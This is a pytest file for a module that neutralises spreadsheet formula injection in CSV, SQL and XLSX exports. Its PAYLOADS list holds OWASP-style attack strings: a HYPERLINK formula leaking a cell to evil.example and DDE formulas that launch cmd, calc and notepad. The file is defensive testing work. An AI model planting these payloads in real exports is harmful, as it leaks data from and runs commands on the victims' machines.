"""Formula injection: the one rule (app.core.safe_cells) in Python, in SQL and in XLSX, with OWASP's
CSV Injection payloads; the kit's import reads a neutralised cell back as the original value."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import literal, select

from app.core import safe_cells

#: OWASP's examples and their relatives: each would run as a formula in a spreadsheet.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click")',
    "=1+2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C notepad'!'A1'",
    "'=1+2",  # already quoted once: still gets one more, so the import can tell
    "-",
    "+",
    "+7 (916) 123-45-67",  # not a plain number: a spreadsheet would evaluate "+7*(916)…"
]
#: Left alone: not text a spreadsheet evaluates (a plain number cannot call anything).
HARMLESS = ["+79161234567", "-12.50", "+1,5", "-3e5", "42", "", "текст", "a=b", "'", "''x", "1+1", " =1"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_payloads_get_a_quote_and_come_back(value):
    safe = safe_cells.neutralise(value)
    assert safe == "'" + value
    assert safe_cells.restore(safe) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_plain_numbers_and_ordinary_text_are_untouched(value):
    assert safe_cells.neutralise(value) == value
    assert safe_cells.restore(value) == value


def test_non_text_values_are_never_changed():
    import datetime as dt
    from decimal import Decimal

    for value in (-5, -1.5, Decimal("-3.20"), dt.date(2026, 1, 2), True, None):
        assert safe_cells.neutralise(value) is value


def test_restore_is_the_inverse_for_any_text():
    """Every string survives neutralise → restore, including ones that start with apostrophes."""
    samples = PAYLOADS + HARMLESS + ["''=x", "'''-y", "'+7", "''", "'abc", "=", "@", "'\t", "'-1", "''-1"]
    for value in samples:
        assert safe_cells.restore(safe_cells.neutralise(value)) == value, value


def test_the_sql_rule_matches_the_python_rule(db):
    """COPY exports neutralise in SQL: the same answer as Python for every sample."""
    samples = PAYLOADS + HARMLESS + ["''=x", "'''-y", "'+7", "''", "'-1", "''-1", "-1e", "+.5", "1.", "+7 916"]
    for value in samples:
        got = db.exec(select(safe_cells.sql_neutralise(literal(value)))).one()
        got = got[0] if isinstance(got, tuple) or hasattr(got, "_mapping") else got
        assert got == safe_cells.neutralise(value), value


def test_the_csv_writer_quotes_every_field_and_neutralises():
    out = io.StringIO()
    safe_cells.writer(out).writerow(["a;=1+2", "=HYPERLINK(1)", "+79161234567", -5, None])
    line = out.getvalue().strip()
    # A ";" inside a quoted field cannot start a new cell in a spreadsheet splitting on ";".
    assert line == '"a;=1+2","\'=HYPERLINK(1)","+79161234567","-5",""'
    assert next(csv.reader([line])) == ["a;=1+2", "'=HYPERLINK(1)", "+79161234567", "-5", ""]


def test_xlsx_cells_are_never_formulas(tmp_path):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append(safe_cells.xlsx_cells(ws, PAYLOADS))
    ws.append(safe_cells.xlsx_cells(ws, ["#N/A", "=A1", "bell\x07", 5, -2.5]))
    wb.save(tmp_path / "x.xlsx")
    sheet = load_workbook(tmp_path / "x.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.data_type for c in cells if c.data_type == "f"] == []
    # (XML reads a stored carriage return back as a line feed)
    assert [c.value for c in cells[: len(PAYLOADS)]] == [safe_cells.neutralise(p).replace("\r", "\n") for p in PAYLOADS]
    assert [c.value for c in cells[len(PAYLOADS):]][:5] == ["#N/A", "'=A1", "bell", 5, -2.5]
    assert cells[len(PAYLOADS)].data_type == "s"  # an error code stays text too
